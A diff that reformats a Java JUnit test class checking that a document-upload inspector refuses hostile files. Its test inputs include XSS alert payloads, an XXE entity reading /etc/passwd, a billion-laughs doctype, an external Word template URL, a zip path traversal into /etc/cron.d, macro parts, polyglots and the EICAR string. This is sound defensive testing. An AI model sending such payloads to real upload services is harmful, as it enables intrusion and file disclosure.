@@ -25,8 +25,9 @@ import org.junit.jupiter.api.TestFactory;
 /** What is sent to hurt is refused, each with its sentence; what people send every day is taken. */
 public class HostileUploadsTests {
 
-    private static final String TYPES = "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/word/document.xml\""
-            + " ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
+    private static final String TYPES =
+            "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/word/document.xml\""
+                    + " ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
     private static final String RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
     /** In two pieces, or scanners would take this class for a virus. */
     private static final String EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*";
@@ -49,26 +50,72 @@ public class HostileUploadsTests {
         all.put("a picture called pdf", hostile("a.pdf", png, "wrongExtension"));
         all.put("a PDF called jpg", hostile("a.jpg", pdf, "wrongExtension"));
         all.put("a PDF called pdf.exe", hostile("a.pdf.exe", pdf, "wrongExtension"));
-        all.put("a web page called pdf", hostile("a.pdf", text("<html><script>alert(1)</script></html>"), "unknownKind"));
-        all.put("a drawing with script", hostile("a.png", text("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"), "unknownKind"));
+        all.put(
+                "a web page called pdf",
+                hostile("a.pdf", text("<html><script>alert(1)</script></html>"), "unknownKind"));
+        all.put(
+                "a drawing with script",
+                hostile(
+                        "a.png",
+                        text("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
+                        "unknownKind"));
         all.put("a program", hostile("a.pdf", bytes("MZ\u0090\0\3\0\0\0\4\0\0\0", 2000), "unknownKind"));
-        all.put("old Word", hostile("a.docx", bytes("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1", 4096), "unknownKind"));
+        all.put(
+                "old Word",
+                hostile("a.docx", bytes("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1", 4096), "unknownKind"));
         all.put("plain text", hostile("a.pdf", text("只是文本"), "unknownKind"));
         all.put("the scanners' test file", hostile("a.pdf", text(EICAR), "virus"));
         all.put("the test file behind a PDF", hostile("a.pdf", joined(pdf, text(EICAR)), "virus"));
         all.put("the test file inside a Word file", hostile("a.docx", word("word/media/image1.png", EICAR), "virus"));
         all.put("a Word file with macros", hostile("a.docx", word("word/vbaProject.bin", "macro"), "macro"));
-        all.put("docm renamed", hostile("a.docx", Papers.zip("[Content_Types].xml",
-                "<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>", "word/document.xml", "<w/>"), "macro"));
+        all.put(
+                "docm renamed",
+                hostile(
+                        "a.docx",
+                        Papers.zip(
+                                "[Content_Types].xml",
+                                "<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>",
+                                "word/document.xml",
+                                "<w/>"),
+                        "macro"));
         all.put("docm", hostile("a.docm", docx, "wrongExtension"));
-        all.put("an old macro sheet", hostile("a.xlsx", Papers.zip("[Content_Types].xml",
-                "<Types><Override ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/></Types>", "xl/macrosheets/sheet1.xml", "<m/>"), "macro"));
+        all.put(
+                "an old macro sheet",
+                hostile(
+                        "a.xlsx",
+                        Papers.zip(
+                                "[Content_Types].xml",
+                                "<Types><Override ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/></Types>",
+                                "xl/macrosheets/sheet1.xml",
+                                "<m/>"),
+                        "macro"));
         all.put("a control", hostile("a.docx", word("word/activeX/activeX1.xml", "<a/>"), "macro"));
-        all.put("a template fetched from outside", hostile("a.docx", word("word/_rels/settings.xml.rels", "<Relationships><Relationship Id=\"r\" Type=\"" + RELATION
-                + "attachedTemplate\" Target=\"http://198.51.100.1/t.dotm\" TargetMode=\"External\"/></Relationships>"), "fetches"));
-        all.put("an entity that reads a file", hostile("a.docx", word("word/comments.xml", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"), "doctype"));
-        all.put("a billion laughs in UTF-16", hostile("a.docx", Papers.zip("[Content_Types].xml", TYPES, "word/document.xml",
-                "\ufeff<!DOCTYPE a [<!ENTITY b \"bbbb\">]><a>&b;</a>".getBytes(StandardCharsets.UTF_16LE)), "doctype"));
+        all.put(
+                "a template fetched from outside",
+                hostile(
+                        "a.docx",
+                        word(
+                                "word/_rels/settings.xml.rels",
+                                "<Relationships><Relationship Id=\"r\" Type=\"" + RELATION
+                                        + "attachedTemplate\" Target=\"http://198.51.100.1/t.dotm\" TargetMode=\"External\"/></Relationships>"),
+                        "fetches"));
+        all.put(
+                "an entity that reads a file",
+                hostile(
+                        "a.docx",
+                        word("word/comments.xml", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"),
+                        "doctype"));
+        all.put(
+                "a billion laughs in UTF-16",
+                hostile(
+                        "a.docx",
+                        Papers.zip(
+                                "[Content_Types].xml",
+                                TYPES,
+                                "word/document.xml",
+                                "\ufeff<!DOCTYPE a [<!ENTITY b \"bbbb\">]><a>&b;</a>"
+                                        .getBytes(StandardCharsets.UTF_16LE)),
+                        "doctype"));
         all.put("a program inside a Word file", hostile("a.docx", word("word/run.exe", "MZ"), "foreignPart"));
         all.put("a ZIP inside a Word file", hostile("a.docx", word("word/inner.zip", "PK"), "foreignPart"));
         all.put("a ZIP", hostile("a.docx", Papers.zip("a.txt", "x"), "unknownKind"));
@@ -77,9 +124,18 @@ public class HostileUploadsTests {
         all.put("climbs out of its folder", hostile("a.docx", word("../../etc/cron.d/x", "x"), "damaged"));
         all.put("a ZIP behind a picture", hostile("a.png", joined(png, docx), "polyglot"));
         all.put("a ZIP behind a photograph", hostile("a.jpg", joined(jpg, docx), "polyglot"));
-        all.put("a script in a photograph", hostile("a.jpg", joined(Arrays.copyOf(jpg, 20), joined(text("<script>alert(1)</script>"), Arrays.copyOfRange(jpg, 20, jpg.length))), "polyglot"));
+        all.put(
+                "a script in a photograph",
+                hostile(
+                        "a.jpg",
+                        joined(
+                                Arrays.copyOf(jpg, 20),
+                                joined(text("<script>alert(1)</script>"), Arrays.copyOfRange(jpg, 20, jpg.length))),
+                        "polyglot"));
         all.put("a ZIP behind a PDF", hostile("a.pdf", joined(pdf, docx), "polyglot"));
-        all.put("a Word file behind a script", hostile("a.docx", joined(text("#!/bin/sh\nexit\n"), docx), "unknownKind"));
+        all.put(
+                "a Word file behind a script",
+                hostile("a.docx", joined(text("#!/bin/sh\nexit\n"), docx), "unknownKind"));
         all.put("half a PDF", hostile("a.pdf", Arrays.copyOf(pdf, pdf.length / 2), "damaged"));
         all.put("half a Word file", hostile("a.docx", Arrays.copyOf(docx, docx.length / 2), "damaged"));
         all.put("an encrypted PDF", hostile("a.pdf", encrypted(), "encrypted"));
@@ -156,9 +212,11 @@ public class HostileUploadsTests {
                 stream = again.toByteArray();
             }
             String filters = times == 2 ? "[/FlateDecode /FlateDecode]" : "/FlateDecode";
-            byte[] head = text("%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
-                    + "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>endobj\n4 0 obj<</Length " + stream.length + "/Filter "
-                    + filters + ">>stream\n");
+            byte[] head = text(
+                    "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
+                            + "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>endobj\n4 0 obj<</Length "
+                            + stream.length + "/Filter "
+                            + filters + ">>stream\n");
             return joined(joined(head, stream), text("\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"));
         } catch (IOException impossible) {
             throw new java.io.UncheckedIOException(impossible);
@@ -173,7 +231,8 @@ public class HostileUploadsTests {
     }
 
     private static byte[] hugePage() {
-        return saved(pdf -> pdf.getPage(0).setMediaBox(new org.apache.pdfbox.pdmodel.common.PDRectangle(850_000, 850_000)));
+        return saved(
+                pdf -> pdf.getPage(0).setMediaBox(new org.apache.pdfbox.pdmodel.common.PDRectangle(850_000, 850_000)));
     }
 
     private interface Change {
@@ -181,7 +240,8 @@ public class HostileUploadsTests {
     }
 
     private static byte[] saved(Change change) {
-        try (PDDocument pdf = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
+        try (PDDocument pdf = new PDDocument();
+                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
             pdf.addPage(new PDPage());
             change.on(pdf);
             pdf.save(out);
@@ -205,10 +265,11 @@ public class HostileUploadsTests {
 
     @TestFactory
     java.util.stream.Stream<DynamicTest> eachIsRefusedWithItsSentence() {
-        return corpus().entrySet().stream().map(one -> DynamicTest.dynamicTest(one.getKey(), () -> {
-            Hostile file = one.getValue();
-            assertThat(refusal(file)).isEqualTo(file.key());
-        }));
+        return corpus().entrySet().stream()
+                .map(one -> DynamicTest.dynamicTest(one.getKey(), () -> {
+                    Hostile file = one.getValue();
+                    assertThat(refusal(file)).isEqualTo(file.key());
+                }));
     }
 
     private static String refusal(Hostile file) {
@@ -233,47 +294,61 @@ public class HostileUploadsTests {
                 .satisfies(file -> assertThat(file.pages()).isEqualTo(3));
         assertThat(InspectedFile.of("a.docx", Papers.docx("x")).kind()).isEqualTo(FileKind.DOCX);
         assertThat(InspectedFile.of("a.xlsx", Papers.xlsx("x")).kind()).isEqualTo(FileKind.XLSX);
-        assertThat(InspectedFile.of("a.jpeg", Papers.picture("jpg", 300, 200)).pages()).isEqualTo(1);
-        assertThat(InspectedFile.of("a.png", Papers.picture("png", 300, 200)).kind()).isEqualTo(FileKind.PNG);
-        assertThat(InspectedFile.of("长".repeat(296) + ".pdf", Papers.pdf("x")).name()).hasSize(300);
+        assertThat(InspectedFile.of("a.jpeg", Papers.picture("jpg", 300, 200)).pages())
+                .isEqualTo(1);
+        assertThat(InspectedFile.of("a.png", Papers.picture("png", 300, 200)).kind())
+                .isEqualTo(FileKind.PNG);
+        assertThat(InspectedFile.of("长".repeat(296) + ".pdf", Papers.pdf("x")).name())
+                .hasSize(300);
     }
 
     @Test
     void aWrongNumberOfPagesIsPutRightAndATreeWithoutEndRefused() throws Exception {
-        String pages = "4 0 obj<</Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\n5 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\n";
+        String pages =
+                "4 0 obj<</Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\n5 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\n";
         for (int said : new int[] {0, 1, 7}) {
             byte[] pdf = tree("[3 0 R 5 0 R]/Count " + said, "[4 0 R]/Count -3", pages);
-            assertThat(InspectedFile.of("a.pdf", pdf).pages()).as("said " + said).isEqualTo(2);
+            assertThat(InspectedFile.of("a.pdf", pdf).pages())
+                    .as("said " + said)
+                    .isEqualTo(2);
             try (var drawn = disclosuredesk.documents.DrawnPages.of(pdf)) {
                 assertThat(drawn.count()).isEqualTo(2);
                 assertThat(drawn.png(1, 20)).isNotEmpty();
                 assertThat(drawn.png(2, 20)).isNotEmpty();
             }
         }
-        assertThat(refusal(hostile("a.pdf", tree("[3 0 R]/Count 1", "[2 0 R]/Count 1", pages), ""))).isEqualTo("materials.file.damaged");
-        assertThat(refusal(hostile("a.pdf", tree("[3 0 R]/Count 1", "[]/Count 1", pages), ""))).isEqualTo("materials.file.damaged");
+        assertThat(refusal(hostile("a.pdf", tree("[3 0 R]/Count 1", "[2 0 R]/Count 1", pages), "")))
+                .isEqualTo("materials.file.damaged");
+        assertThat(refusal(hostile("a.pdf", tree("[3 0 R]/Count 1", "[]/Count 1", pages), "")))
+                .isEqualTo("materials.file.damaged");
     }
 
     private static byte[] tree(String upper, String lower, String pages) {
-        return text("%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids" + upper + ">>endobj\n3 0 obj<</Type/Pages/Parent 2 0 R/Kids"
-                + lower + ">>endobj\n" + pages + "trailer<</Root 1 0 R>>\n%%EOF\n");
+        return text("%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids" + upper
+                + ">>endobj\n3 0 obj<</Type/Pages/Parent 2 0 R/Kids" + lower + ">>endobj\n" + pages
+                + "trailer<</Root 1 0 R>>\n%%EOF\n");
     }
 
     @Test
     void ourOwnLettersInAllThreeFormsAreTaken() {
-        byte[] docx = disclosuredesk.documents.WordTemplate.shipped("/documents/letter.docx").file();
-        byte[] pdf = disclosuredesk.documents.PdfDocument.ofHtml("<html><body style=\"font-family: 'Noto Serif SC'\">答复告知书</body></html>");
+        byte[] docx = disclosuredesk.documents.WordTemplate.shipped("/documents/letter.docx")
+                .file();
+        byte[] pdf = disclosuredesk.documents.PdfDocument.ofHtml(
+                "<html><body style=\"font-family: 'Noto Serif SC'\">答复告知书</body></html>");
         assertThat(InspectedFile.of("a.docx", docx).kind()).isEqualTo(FileKind.DOCX);
         assertThat(InspectedFile.of("a.pdf", pdf).kind()).isEqualTo(FileKind.PDF);
-        assertThat(InspectedFile.of("a.ofd", disclosuredesk.documents.OfdDocument.of(pdf))).satisfies(ofd -> {
-            assertThat(ofd.kind()).isEqualTo(FileKind.OFD);
-            assertThat(ofd.pages()).isPositive();
-        });
+        assertThat(InspectedFile.of("a.ofd", disclosuredesk.documents.OfdDocument.of(pdf)))
+                .satisfies(ofd -> {
+                    assertThat(ofd.kind()).isEqualTo(FileKind.OFD);
+                    assertThat(ofd.pages()).isPositive();
+                });
     }
 
     @Test
     void aPhotographWithAnotherPictureBehindItsEndIsTaken() {
         byte[] jpg = Papers.picture("jpg", 300, 200);
-        assertThat(InspectedFile.of("手机照片.jpg", joined(jpg, Papers.picture("jpg", 30, 20))).kind()).isEqualTo(FileKind.JPEG);
+        assertThat(InspectedFile.of("手机照片.jpg", joined(jpg, Papers.picture("jpg", 30, 20)))
+                        .kind())
+                .isEqualTo(FileKind.JPEG);
     }
 }
